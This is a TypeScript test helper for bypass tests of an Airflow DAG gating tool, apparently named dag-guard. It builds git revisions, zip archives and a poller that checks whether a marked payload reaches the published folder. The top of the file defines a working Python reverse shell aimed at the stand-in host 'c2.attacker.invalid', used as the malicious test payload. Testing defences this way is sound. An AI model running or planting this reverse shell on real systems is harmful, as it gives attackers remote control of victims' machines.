/** Shared by the bypass tests (issue 11): a real-git gating driver and a poller of the published folder. */
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { BIN, git, readJson, tmpDir } from './helpers';

export const REVERSE_SHELL = (marker: string): string => `"""${marker}"""
import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.attacker.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
`;

/** A file's content, or a symlink to create (the target text, as the committer wrote it). */
export type Entry = string | Buffer | { symlink: string } | null;

/** A zip archive with stored (uncompressed) members, as `zipfile` writes with ZIP_STORED. */
export function storedZip(members: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(members)) {
    const data = Buffer.from(text);
    const fname = Buffer.from(name);
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fname.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fname.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fname, data);
    centrals.push(central, fname);
    offset += local.length + fname.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(members).length, 8);
  end.writeUInt16LE(Object.keys(members).length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

export interface GateRun {
  revision: string;
  exitCode: number | null;
  stderr: string;
  status: any; // eslint-disable-line @typescript-eslint/no-explicit-any
}

export interface PolledGating {
  pub: string;
  runs: GateRun[];
  /** Published paths whose content (links followed, as Airflow reads them) held the marker. */
  sightings: string[];
  /** Symlinks ever seen in the published folder. */
  links: string[];
  polls: number;
}

/**
 * Reads `<publish-to>/current` every 50 ms as Airflow would (following links) and records any file whose content
 * holds `marker`, and any symlink. `stop()` polls a last time.
 */
export function pollPublished(pub: string, marker: string): { poll: () => void; stop: () => void; sightings: string[]; links: string[]; polls: () => number } {
  const sightings: string[] = [];
  const links: string[] = [];
  const seen = new Set<string>();
  let polls = 0;
  const poll = (): void => {
    polls++;
    const walk = (d: string, rel: string): void => {
      let entries: fs.Dirent[];
      try {
        entries = fs.readdirSync(d, { withFileTypes: true });
      } catch {
        return; // swapped or pruned meanwhile
      }
      for (const e of entries) {
        const p = path.join(d, e.name);
        const r = rel ? `${rel}/${e.name}` : e.name;
        if (e.isSymbolicLink() && !seen.has(`link:${r}`)) {
          seen.add(`link:${r}`);
          links.push(r);
        }
        try {
          const st = fs.statSync(p); // follows links, as Airflow's import would
          if (st.isDirectory()) {
            if (!e.isSymbolicLink()) walk(p, r);
          } else if (st.isFile() && fs.readFileSync(p).includes(marker) && !seen.has(r)) {
            seen.add(r);
            sightings.push(r);
          }
        } catch {
          /* dangling or gone */
        }
      }
    };
    walk(path.join(pub, 'current'), '');
  };
  const timer = setInterval(poll, 50);
  return {
    poll,
    stop: () => {
      clearInterval(timer);
      poll();
    },
    sightings,
    links,
    polls: () => polls,
  };
}

/**
 * Commits each revision to a real git repository, checks it out as a git worktree behind a link that flips like
 * git-sync's, runs `dag-guard gate` (CLI) on it, and polls `<publish-to>/current` every 50 ms from before the
 * first run until after the last. `between(i, pub)` runs after revision i was gated (e.g. to swap a payload).
 */
export async function gateRevisionsPolling(opts: {
  revisions: ((ctx: { pub: string; root: string }) => Record<string, Entry>)[];
  marker: string;
  gateArgs?: string[];
  between?: (i: number, pub: string) => void | Promise<void>;
}): Promise<PolledGating> {
  const base = fs.realpathSync(tmpDir('dg-bypass-'));
  const work = path.join(base, 'work');
  const root = path.join(base, 'git-sync-root');
  const pub = path.join(base, 'dags-live');
  const trusted = path.join(base, 'trusted', 'dag-guard.toml');
  fs.mkdirSync(path.dirname(trusted), { recursive: true });
  fs.writeFileSync(trusted, 'fail-on = "high"\n'); // the operator's config, outside the synced tree
  fs.mkdirSync(root);
  fs.mkdirSync(pub);
  git(base, 'init', '-q', work);

  const out: PolledGating = { pub, runs: [], sightings: [], links: [], polls: 0 };
  const poller = pollPublished(pub, opts.marker);
  const poll = poller.poll;
  try {
    for (let i = 0; i < opts.revisions.length; i++) {
      for (const [rel, entry] of Object.entries(opts.revisions[i]({ pub, root }))) {
        const p = path.join(work, rel);
        fs.rmSync(p, { force: true, recursive: true });
        if (entry === null) continue;
        fs.mkdirSync(path.dirname(p), { recursive: true });
        if (typeof entry === 'object' && !Buffer.isBuffer(entry)) fs.symlinkSync(entry.symlink, p);
        else fs.writeFileSync(p, entry);
      }
      git(work, 'add', '-A');
      git(work, 'commit', '-q', '--allow-empty', '-m', `revision ${i}`);
      const rev = git(work, 'rev-parse', 'HEAD');
      const wt = path.join(root, '.worktrees', rev);
      git(work, 'worktree', 'add', '-q', '--detach', wt, rev);
      const tmpLink = path.join(root, `.repo.tmp-${i}`);
      fs.symlinkSync(path.join('.worktrees', rev), tmpLink);
      fs.renameSync(tmpLink, path.join(root, 'repo'));

      const child = spawn(process.execPath, [BIN, 'gate', '--source', path.join(root, 'repo'), '--publish-to', pub, '--config', trusted, ...(opts.gateArgs ?? [])], {
        stdio: ['ignore', 'ignore', 'pipe'],
        env: { ...process.env, GITSYNC_HASH: rev },
      });
      let stderr = '';
      child.stderr!.on('data', (d) => (stderr += d));
      const exitCode = await new Promise<number | null>((r) => child.once('exit', (c) => r(c)));
      poll();
      out.runs.push({ revision: rev, exitCode, stderr, status: readJson(path.join(pub, '.dag-guard', 'status.json')) });
      await opts.between?.(i, pub);
    }
    await new Promise((r) => setTimeout(r, 200));
  } finally {
    poller.stop();
  }
  return { ...out, sightings: poller.sightings, links: poller.links, polls: poller.polls() };
}

